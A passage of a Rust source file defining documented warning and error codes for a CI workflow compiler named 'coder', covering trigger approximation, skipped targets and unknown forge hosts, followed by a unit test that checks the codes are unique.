    /// Accept the broader trigger (make the steps tolerate reruns), or start the workflow by
    /// `manual` or a `webhook`.
    TriggerApproximated = "C0410" "trigger-approximated" Warning "a repository event the target can only approximate";

    /// ## What it does
    /// Warns that a target the configuration's `targets` adds is skipped for this workflow,
    /// because the target cannot express something in it (the label points at what). Nothing
    /// is generated for that target; the workflow still compiles for its other targets.
    ///
    /// ## Why
    /// `targets = ["systemd"]` asks for every workflow on a systemd host too, but a review
    /// that runs on pull requests cannot run there. Skipping it is what you want; saying so
    /// keeps it from going unnoticed.
    ///
    /// ## Example
    /// `.coder/config.toml` with `targets = ["systemd"]`, and
    /// ```yaml
    /// triggers:
    ///   - type: repo_event
    ///     event: pull_request.opened
    /// ```
    ///
    /// ## Fix
    /// Nothing, if the workflow is not meant for that target. Otherwise change what the label
    /// points at; `coder compile --target <name>` reports it as the error it is there.
    TargetSkipped = "C0411" "target-skipped" Warning "a workflow a configured target cannot express, skipped for it";

    /// ## What it does
    /// Warns that a spec was checked for no target: it names no `project.provider`, no
    /// `--target` was asked, the configuration adds none, and the git remote's host is not one
    /// coder recognises as GitHub or GitLab (a self-hosted forge under its own name).
    ///
    /// ## Why
    /// Without a target, `coder check` cannot check what the CI can express (schedules,
    /// triggers, time limits), so a clean result would promise more than it checked, and
    /// `coder compile` has nothing to compile to.
    ///
    /// ## Example
    /// A repository whose `origin` is `git@git.example.com:team/app.git`.
    ///
    /// ## Fix
    /// Name the host in `.coder/config.toml`:
    /// ```toml
    /// [hosts]
    /// "git.example.com" = "gitlab"
    /// ```
    /// or set `project.provider` in the spec, or pass `--target`.
    NoTarget = "C0412" "no-target" Warning "a spec checked for no target: its remote's host is unknown";

    /// ## What it does
    /// Reports a bug in coder itself.
    ///
    /// ## Fix
    /// Please report it with the file that triggers it.
    Internal = "C0901" "internal-error" Error "an internal error in coder";
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn codes_are_unique_well_formed_and_explained() {
        let mut seen = std::collections::HashSet::new();
        for code in Code::ALL {
            let info = code.info();
            assert!(seen.insert(info.code), "{} reused", info.code);
            assert!(seen.insert(info.name), "{} reused", info.name);
            assert_eq!(info.code.len(), 5);
            assert!(info.code.starts_with('C'));
            assert!(
                info.explanation().contains("## What it does"),
                "{}",
                info.code
            );
            assert_eq!(Code::lookup(info.code), Some(*code));
            assert_eq!(Code::lookup(info.name), Some(*code));
        }
    }
}
